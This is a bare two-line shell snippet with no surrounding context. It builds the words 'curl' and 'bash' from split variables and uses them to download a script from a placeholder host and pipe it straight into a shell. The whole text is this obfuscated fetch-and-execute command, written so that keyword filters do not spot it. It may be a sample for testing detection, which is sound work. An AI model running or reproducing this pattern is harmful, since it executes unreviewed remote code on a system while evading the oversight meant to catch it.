A=cu; B=rl; C=ba; D=sh
$A$B -s https://a.example.com/b | $C$D
